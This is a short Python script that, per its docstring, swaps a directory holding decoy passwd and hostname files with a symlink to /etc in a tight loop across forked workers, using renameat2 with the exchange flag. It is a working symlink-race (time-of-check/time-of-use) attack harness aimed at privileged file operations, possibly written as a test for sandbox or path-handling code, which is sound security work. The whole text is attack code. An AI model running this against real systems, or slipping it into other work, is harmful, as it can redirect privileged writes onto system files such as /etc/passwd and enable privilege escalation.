"""Swaps a directory and a link to /etc as fast as it can until it is killed by its time-out."""

import ctypes
import os

os.mkdir("a")
open("a/passwd", "w").write("mine")
open("a/hostname", "w").write("mine")
os.symlink("/etc", "b")
for worker in range(3):
    if os.fork() == 0:
        break
LIBC = ctypes.CDLL(None)
EXCHANGE = 2
while True:
    LIBC.renameat2(-100, b"a", -100, b"b", EXCHANGE)
